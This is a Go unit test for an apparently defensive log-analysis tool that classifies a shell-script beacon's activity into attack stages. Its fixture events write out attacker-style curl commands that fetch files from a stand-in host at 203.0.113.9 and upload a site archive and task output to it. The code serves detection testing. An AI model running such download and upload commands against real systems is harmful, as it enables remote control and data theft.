package timeline

import (
	"testing"
	"time"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// TestPlacePollsFirstFetches: a script beacon's first fetch was a download
// to the engine (the repetition had not shown yet); over the whole log its
// parent fetched the same server again and again, so the first fetch is
// the poll too. A one-off fetch of another parent stays where it was.
func TestPlacePollsFirstFetches(t *testing.T) {
	tree := parser.NewTree()
	at := time.Date(2026, 12, 4, 12, 0, 0, 0, time.UTC)
	exec := func(s, pid, ppid int, args ...string) *parser.Event {
		ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, Source: parser.FormatAuditd,
			Time: at.Add(time.Duration(s) * time.Second), PID: pid, PPID: ppid, UID: parser.NewID(33), EUID: parser.NewID(33),
			Exe: "/usr/bin/" + args[0], Args: args}
		tree.Observe(ev)
		return ev
	}
	exec(0, 300, 1, "dash", "sh", "/var/tmp/.b.sh")
	first := exec(1, 301, 300, "curl", "curl", "-fsS", "-o", "/var/tmp/.t", "http://203.0.113.9:8000/t")
	exec(4, 302, 300, "curl", "curl", "-fsS", "-o", "/var/tmp/.t", "http://203.0.113.9:8000/t")
	exec(7, 303, 300, "curl", "curl", "-fsS", "-o", "/var/tmp/.t", "http://203.0.113.9:8000/t")
	reply := exec(2, 304, 300, "curl", "curl", "-fsS", "--data-binary", "@/var/tmp/.o", "http://203.0.113.9:8000/o")
	loot := exec(3, 305, 300, "curl", "curl", "-fsS", "--data-binary", "@/var/tmp/site.tgz", "http://203.0.113.9:8000/o")
	replyConn := &parser.Event{Kind: parser.KindConnect, Syscall: "connect", Success: true, Source: parser.FormatAuditd, Time: at.Add(2 * time.Second),
		PID: 304, PPID: 300, UID: parser.NewID(33), Exe: "/usr/bin/curl", Peer: parser.Addr{Family: "inet", IP: "203.0.113.9", Port: 8000}}
	tree.Observe(replyConn)
	exec(8, 400, 1, "dash", "sh", "-c", "x")
	other := exec(9, 401, 400, "curl", "curl", "-fsS", "-o", "/tmp/p.zip", "http://203.0.113.9:8000/p.zip")
	fs := []*detect.Finding{
		{RuleID: "ingress-tool-download", Stage: detect.StageSuspiciousSpawn, Event: first, Process: first.Proc, Time: first.Time},
		{RuleID: "ingress-tool-download", Stage: detect.StageSuspiciousSpawn, Event: other, Process: other.Proc, Time: other.Time},
		{RuleID: "exfil-upload", Title: "Data Uploaded Out", Stage: detect.StageExfiltrationImpact, Event: reply, Process: reply.Proc, Time: reply.Time},
		{RuleID: "exfil-upload", Title: "Data Uploaded Out", Stage: detect.StageExfiltrationImpact, Event: loot, Process: loot.Proc, Time: loot.Time},
		{RuleID: "web-outbound-connect", Stage: detect.StageExfiltrationImpact, Event: replyConn, Process: replyConn.Proc, Time: replyConn.Time},
	}
	all := append([]*detect.Finding(nil), fs...)
	got := (&Builder{}).placePolls(all, fs, tree)
	if got[0].Stage != detect.StageCommandAndControl {
		t.Errorf("the beacon's first fetch: stage %v, want 7 (%s)", got[0].Stage, got[0].Reason)
	}
	if got[1].Stage != detect.StageSuspiciousSpawn {
		t.Errorf("a one-off fetch: stage %v, want 4", got[1].Stage)
	}
	if got[2].Stage != detect.StageCommandAndControl || got[2].Title != "Task Output Returned On The Channel" {
		t.Errorf("the beacon's first reply: stage %v %q, want the reply on 7", got[2].Stage, got[2].Title)
	}
	if got[4].Stage != detect.StageCommandAndControl {
		t.Errorf("the reply's connection: stage %v, want 7", got[4].Stage)
	}
	if got[3].Stage != detect.StageExfiltrationImpact {
		t.Errorf("an archive sent to the beacon's server: stage %v, want 8 (exfiltration)", got[3].Stage)
	}
}
